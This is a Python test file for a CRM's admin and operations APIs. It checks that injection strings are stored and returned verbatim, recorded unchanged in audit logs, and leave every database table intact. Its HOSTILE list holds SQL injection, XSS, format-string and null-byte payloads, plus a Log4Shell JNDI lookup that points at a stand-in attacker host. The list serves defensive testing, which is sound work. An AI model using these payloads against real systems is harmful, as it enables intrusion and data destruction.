"""Injection strings are data: stored and returned exactly as sent, through the admin API
and the audit record, and no table is harmed."""

from __future__ import annotations

import json
from typing import Any

from sqlalchemy import func, select

from ridercrm.db import session_scope
from ridercrm.people.models import Person
from tests.courses.helpers import new_booking
from tests.hostile.conftest import LEADS_MATCH, MODIFY, PEOPLE_MATCH, RIDER_COURSES, World
from tests.hostile.state import BUSINESS_TABLES, snapshot

HOSTILE = [
    "Robert'); DROP TABLE people;--",
    "<script>alert(1)</script>",
    "' OR '1'='1' --",
    '"; DELETE FROM assets; --',
    "1; UPDATE people SET email=NULL",
    "${jndi:ldap://evil.example/x}",
    "{{7*7}} %s %n %x",
    "O'Brien-Zoë 李 😀",
    "\\x00 \\u0000 %00 &#0;",
    "</textarea><img src=x onerror=alert(1)>",
]
PERSON_TEXT = (
    "first_name", "last_name", "mobile_phone", "home_phone", "drivers_license",
    "street", "city", "state", "country",
)  # fmt: skip


def _send(world: World, path: str, body: Any) -> Any:
    # Not ASCII-escaped: the strings travel as their own UTF-8 bytes.
    raw = json.dumps(body, ensure_ascii=False).encode()
    response = world.post(path, raw)
    assert response.status_code < 300, response.text
    record = world.audit(response)
    assert record["request_body"] == raw.decode(), "the audit record keeps the body verbatim"
    return response


def _tables_intact(world: World, people: int) -> None:
    tables = snapshot(world.sessions)  # every table is still there and readable
    assert set(tables) == set(BUSINESS_TABLES)
    with session_scope(world.sessions) as session:
        assert session.scalar(select(func.count()).select_from(Person)) == people


def test_admin_create_stores_and_returns_them_verbatim(world: World) -> None:
    for people, value in enumerate(HOSTILE, start=3):
        _created_and_read(world, value)
        _tables_intact(world, people=people)  # the world's contact and lead, and these


def _created_and_read(world: World, value: str) -> None:
    body = {name: value for name in PERSON_TEXT}
    created = _send(world, "/admin/contacts", body)
    person_id = created.json()["id"]
    read = world.client.get(f"/admin/people/{person_id}", headers=world.headers)
    assert read.headers["content-type"] == "application/json"
    person = read.json()
    assert {name: person[name] for name in PERSON_TEXT} == body
    # The read's own audit record keeps the response exactly as sent.
    assert world.audit(read)["response_body"] == read.content.decode()
    assert json.loads(world.audit(read)["response_body"])["street"] == value
    # Searching for it finds it by its name, and nobody else.
    found = world.client.get("/admin/people", params={"q": value}, headers=world.headers)
    assert found.status_code == 200, found.text
    assert {p["id"] for p in found.json()["people"]} <= {person_id}


def test_operations_store_and_return_them_verbatim(world: World) -> None:
    for n, value in enumerate(HOSTILE):
        modified = _send(
            world,
            MODIFY.path,
            {"people_data": [{"ID": world.contact, "street": value, "city": value}]},
        )
        assert modified.json()["details"][0]["status"] is True
        person = world.read(f"/admin/people/{world.contact}")
        assert (person["street"], person["city"]) == (value, value)

        item = new_booking(
            world.contact,
            world.product,
            booking_number=f"{value[:70]}#{n}",
            dealer_code=value,
            rider_instructor_1=value,
            rider_instructor_2=value,
            course_status="booked" if n % 2 else "cancelled",
        )
        booked = _send(world, RIDER_COURSES.path, {"people_product": [item]})
        (detail,) = booked.json()["details"]
        assert detail["delivery"] == "true", detail
        asset = world.read(f"/admin/assets/{detail['asset_id']}")
        assert asset["booking_number"] == f"{value[:70]}#{n}"
        assert (asset["dealer_code"], asset["rider_instructor_1"]) == (value, value)

        for target in (PEOPLE_MATCH, LEADS_MATCH):
            # No licence: a replaced given name with an agreeing licence is the same person
            # renamed (issue 11); without one, the household guard answers "not found".
            query = {
                **world.valid_item(target),
                "first_name": value,
                "street": value,
                "drivers_license": None,
            }
            matched = _send(world, target.path, {"person_data": query})
            assert matched.json()["delivery"] == "false"
    _tables_intact(world, people=2)
